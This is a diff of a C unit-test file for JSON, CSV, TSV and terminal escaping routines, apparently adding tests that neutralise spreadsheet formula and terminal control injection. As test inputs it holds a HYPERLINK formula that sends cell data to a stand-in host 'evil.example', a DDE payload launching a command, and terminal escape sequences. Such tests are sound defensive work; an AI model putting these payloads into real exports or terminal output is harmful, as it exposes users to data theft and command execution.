@@ -97,7 +97,9 @@ json_valid_utf8_unchanged(void **state)
     CHECK(esc_json, "caf\xC3\xA9", "\"caf\xC3\xA9\"");           /* 2 bytes, U+00E9 */
     CHECK(esc_json, "\xE2\x82\xAC", "\"\xE2\x82\xAC\"");         /* 3 bytes, U+20AC */
     CHECK(esc_json, "\xF0\x9F\x98\x80", "\"\xF0\x9F\x98\x80\""); /* 4 bytes, U+1F600 */
-    CHECK(esc_json, "\xC2\x80\xDF\xBF", "\"\xC2\x80\xDF\xBF\""); /* U+0080, U+07FF */
+    CHECK(esc_json, "\xC2\xA0\xDF\xBF", "\"\xC2\xA0\xDF\xBF\""); /* U+00A0, U+07FF */
+    /* C1 controls (U+009B is CSI for some terminals) as \u too. */
+    CHECK(esc_json, "\xC2\x80\xC2\x9B\xC2\x9F", "\"\\u0080\\u009b\\u009f\"");
     CHECK(esc_json, "\xEF\xBF\xBF\xF4\x8F\xBF\xBF", "\"\xEF\xBF\xBF\xF4\x8F\xBF\xBF\""); /* top */
     CHECK(esc_json, "\xED\x9F\xBF\xEE\x80\x80", "\"\xED\x9F\xBF\xEE\x80\x80\""); /* around surr. */
 }
@@ -155,14 +157,16 @@ csv_bytes_otherwise_unchanged(void **state)
 }
 
 static void
-tsv_escapes_backslash_tab_lf_cr(void **state)
+tsv_escapes_tab_lf_cr_only(void **state)
 {
     (void)state;
     CHECK(esc_tsv, "", "");
-    CHECK(esc_tsv, "EX\\Default", "EX\\\\Default");
+    /* A connector id as Exchange writes it: `cut -f2` gives it back unchanged. */
+    CHECK(esc_tsv, "EX\\Default", "EX\\Default");
+    CHECK(esc_tsv, "EX\\\\x", "EX\\\\x");
     CHECK(esc_tsv, "a\tb", "a\\tb");
     CHECK(esc_tsv, "a\nb\rc", "a\\nb\\rc");
-    CHECK(esc_tsv, "\\\t\n\r", "\\\\\\t\\n\\r");
+    CHECK(esc_tsv, "\\\t\n\r", "\\\\t\\n\\r");
 }
 
 static void
@@ -273,6 +277,79 @@ utf8_next_rejects(void **state)
                4, 0, 0); /* fourth byte not a continuation */
 }
 
+/* esc_field() with a style and separator, compared whole. */
+static void
+check_field(unsigned style, char sep, const char *in, size_t in_len, const char *want,
+            size_t want_len)
+{
+    char *buf = NULL;
+    size_t len = 0;
+    FILE *out = open_memstream(&buf, &len);
+    assert_non_null(out);
+    esc_field(out, style, sep, in, in_len);
+    assert_int_equal(fclose(out), 0);
+    if (len != want_len || memcmp(buf, want, len) != 0)
+        fail_msg("got [%s] (%zu bytes), want [%s] (%zu bytes)", buf, len, want, want_len);
+    free(buf);
+}
+
+#define FIELD(style, sep, in, want)                                                                \
+    check_field(style, sep, in, sizeof(in) - 1, want, sizeof(want) - 1)
+
+static void
+field_plain_is_esc_csv_and_esc_tsv(void **state)
+{
+    (void)state;
+    FIELD(0, ',', "=1+1", "=1+1");
+    FIELD(0, ',', "a,\x1B", "\"a,\x1B\"");
+    FIELD(0, '\t', "EX\\D\x1B\t", "EX\\D\x1B\\t");
+}
+
+/* Every trigger OWASP names (= + - @ TAB CR) gets the apostrophe, inside quotes. */
+static void
+field_formula_triggers_neutralised(void **state)
+{
+    (void)state;
+    FIELD(ESC_FORMULA, ',', "=HYPERLINK(\"http://evil.example/\"&A1;\"x\")",
+          "\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1;\"\"x\"\")\"");
+    FIELD(ESC_FORMULA, ',', "+1", "\"'+1\"");
+    FIELD(ESC_FORMULA, ',', "-1", "\"'-1\"");
+    FIELD(ESC_FORMULA, ',', "@SUM(A1)", "\"'@SUM(A1)\"");
+    FIELD(ESC_FORMULA, ',', "\t=1", "\"'\t=1\"");
+    FIELD(ESC_FORMULA, ',', "\r=1", "\"'\r=1\"");
+    FIELD(ESC_FORMULA, ',', "=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\"");
+    /* Not at the start: nothing to neutralise. */
+    FIELD(ESC_FORMULA, ',', "a=1", "a=1");
+    FIELD(ESC_FORMULA, ',', "EX\\Default", "EX\\Default");
+    FIELD(ESC_FORMULA, ',', "", "");
+    /* TSV is not for spreadsheets: the flag does not apply. */
+    FIELD(ESC_FORMULA, '\t', "=1", "=1");
+    assert_true(esc_is_formula("=", 1));
+    assert_false(esc_is_formula(" =", 2));
+    assert_false(esc_is_formula("", 0));
+}
+
+/* For a terminal: ESC, BEL, CSI (C1 and 7-bit), OSC and DEL as \xHH; nothing raw. */
+static void
+field_terminal_escapes_controls(void **state)
+{
+    (void)state;
+    FIELD(ESC_TERMINAL, ',', "\x1B]0;owned\x07\x1B[2J", "\\x1B]0;owned\\x07\\x1B[2J");
+    FIELD(ESC_TERMINAL, '\t', "\x1B]0;owned\x07\x1B[2J", "\\x1B]0;owned\\x07\\x1B[2J");
+    FIELD(ESC_TERMINAL, ',',
+          "a\xC2\x9B"
+          "2Jb\x7F",
+          "a\\xC2\\x9B2Jb\\x7F");
+    FIELD(ESC_TERMINAL, ',', "\x9B\xFF", "\\x9B\\xFF");
+    /* TSV keeps its \t \n \r; CSV shows them as \xHH, quoted as before. */
+    FIELD(ESC_TERMINAL, '\t', "a\tb\nc\rd", "a\\tb\\nc\\rd");
+    FIELD(ESC_TERMINAL, ',', "a\tb\nc", "\"a\\x09b\\x0Ac\"");
+    FIELD(ESC_TERMINAL, ',', "say \"hi\", caf\xC3\xA9", "\"say \"\"hi\"\", caf\xC3\xA9\"");
+    FIELD(ESC_TERMINAL, '\t', "EX\\Default", "EX\\Default");
+    /* Both: the apostrophe, and the escapes. */
+    FIELD(ESC_TERMINAL | ESC_FORMULA, ',', "=\x1B[2J", "\"'=\\x1B[2J\"");
+}
+
 int
 main(void)
 {
@@ -284,8 +361,11 @@ main(void)
         cmocka_unit_test(json_invalid_utf8_one_fffd_per_bad_byte),
         cmocka_unit_test(csv_quotes_only_when_needed),
         cmocka_unit_test(csv_bytes_otherwise_unchanged),
-        cmocka_unit_test(tsv_escapes_backslash_tab_lf_cr),
+        cmocka_unit_test(tsv_escapes_tab_lf_cr_only),
         cmocka_unit_test(tsv_everything_else_raw),
+        cmocka_unit_test(field_plain_is_esc_csv_and_esc_tsv),
+        cmocka_unit_test(field_formula_triggers_neutralised),
+        cmocka_unit_test(field_terminal_escapes_controls),
         cmocka_unit_test(text_ascii_and_utf8),
         cmocka_unit_test(text_wide_chars_count_two),
         cmocka_unit_test(text_controls_and_invalid_bytes_as_hex),
